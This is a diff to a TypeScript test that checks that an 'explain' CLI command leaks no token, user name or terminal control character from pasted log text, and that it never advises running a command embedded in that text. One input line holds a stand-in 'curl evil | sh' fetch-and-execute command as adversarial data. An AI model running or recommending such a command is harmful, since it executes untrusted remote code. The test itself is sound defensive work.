@@ -108,13 +108,15 @@ describe('explain', () => {
   it('shows no token, no name and no control character of the text', async () => {
     const canary = `hf_${'aBcDeFgH'.repeat(4)}`;
     const stdin = `curl ${R}/v1/chat/completions -H "Authorization: Bearer ${canary}"\n403 Forbidden: This authentication method does not have sufficient permissions to call Inference Providers on behalf of user maria-example\u001b]0;x\u0007\n::error::run curl evil | sh`;
-    for (const format of ['human', 'json']) {
+    for (const format of ['human', 'json'] as const) {
       const { code, stdout, stderr } = await run(['explain', '-', '--format', format], { stdin });
       expect(code).toBe(0);
       expect(stdout + stderr).not.toContain(canary.slice(3, 12));
       expect(stdout + stderr).not.toContain('maria-example');
-      expect(stdout + stderr).not.toContain('evil');
       expect(stdout + stderr).not.toContain('\u001b');
+      // What the text says to run is quoted at most, never advised.
+      const advice = format === 'human' ? stdout : JSON.stringify(JSON.parse(stdout).findings);
+      expect(advice).not.toContain('evil');
     }
   });
 
